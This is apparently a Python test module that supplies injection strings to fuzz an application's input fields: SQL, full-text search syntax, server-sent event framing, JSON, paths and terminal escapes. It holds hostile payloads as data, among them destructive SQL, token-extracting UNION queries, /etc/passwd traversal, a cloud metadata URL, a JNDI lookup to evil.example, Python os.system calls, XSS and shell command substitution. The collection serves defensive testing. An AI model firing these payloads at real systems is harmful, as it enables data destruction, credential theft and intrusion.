"""Injection texts: SQL, search syntax, SSE, JSON, paths, terminals."""

import os
import random

SQL_TEXTS = """
'
"
' OR '1'='1
' OR 1=1 --
') OR ('1'='1
" OR ""="
1; DROP TABLE sessions; --
'; DELETE FROM turns WHERE 1=1; --
' UNION SELECT name, hash, user FROM tokens --
' UNION ALL SELECT sql FROM sqlite_master --
1 AND (SELECT COUNT(*) FROM users) > 0
%' OR title LIKE '%
_%_%
\\' OR 1=1 --
'||(SELECT secret)||'
ATTACH DATABASE '/tmp/x.db' AS x
:user OR 1=1
?1 OR ?2
%(user)s
{owner}
$1
randomblob(1000000000)
load_extension('x')
""".strip().splitlines()

SEARCH_TEXTS = """
*
**
"
""
" OR "
"victimword
victimword*
vi*
NEAR(victimword ownword, 10)
ownword NEAR/9 victimword
ownword OR victimword
ownword AND victimword
NOT ownword
ownword NOT nothing
-ownword
+victimword
^victimword
norm : victimword
tags : u1w1prompt
tags:u2w2prompt OR norm:victimword
{norm tags} : victimword
u1w1prompt
u2w2prompt
u3w2thought
(victimword
victimword)
ownword) OR (victimword
") OR norm : ("victimword
"ownword" *) OR (tags : u1w1prompt
search_text MATCH 'victimword'
rowid > 0
-- victimword
victimword;
ownword' OR 'victimword
""".strip().splitlines()

SSE_TEXTS = [
    "\n\nid: 99\ndata: {}\n\n",
    "\r\n\r\nid: 99\r\ndata: {}\r\n\r\n",
    "\r\rid: 99\rdata: {}\r\r",
    '\nevent: end\ndata: {"state":"done"}\n\n',
    "data: x\n\nevent: reset\ndata: {}\n\n",
    "\n\nretry: 1\n\n",
    "\n\n: a comment\n\n",
    "\n\nid\n\n",
    "\n\nid: \x00\n\n",
    "\n\ndata\n\n",
    "\ufeffid: 1\n\n",
    "\x85id: 99\x85data: {}\x85\x85",
    "\u2028\u2028id: 99\u2028data: {}\u2029",
    "\x0b\x0cid: 99\x1c\x1d\x1edata: {}",
    '"}}\n\nid: 99\ndata: {"seq":99}',
    '","event":{"type":"turn.ended"},"x":"',
    "\\n\\nid: 99\\ndata: {}",
    "\\u000a\\u000aid: 99",
    "[DONE]",
    "data: [DONE]\n\n",
]

JSON_LIKE = [
    '{"$ne": null}',
    '{"__proto__": {"admin": true}}',
    '{"title": "x", "user": 1}',
    "[[[[[[[[[[",
    "null",
    "\\",
    '\\"',
    "\\ud800",
]

ODD_TEXTS = [
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\uffff\ufffe",
    "\u202etxt.exe\u202c",
    "e\u0301" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J",
    "../../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{%print 1%}",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "__import__('os').system('id')",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "$(id)`id`;id|id&&id",
    "env:HOME",
    "file:/etc/passwd",
    " ",
    "\t\r\n",
    "x" * 5_000,
    "-1",
    "9" * 400,
    "1e999",
    "NaN",
    "true",
    "undefined",
]

_KINDS = (SQL_TEXTS, SEARCH_TEXTS, SSE_TEXTS, JSON_LIKE, ODD_TEXTS)
ALL_TEXTS = [text for texts in _KINDS for text in texts]
_TEXTS_OF_A_KIND = 4


def some_texts(field: str) -> list[str]:
    """Return a few texts of each kind, other ones for each field. `make test-all` sends all to all fields."""
    if "ALL_CASES" in os.environ:
        return ALL_TEXTS
    dice = random.Random(field)
    return [text for texts in _KINDS for text in dice.sample(texts, _TEXTS_OF_A_KIND)]
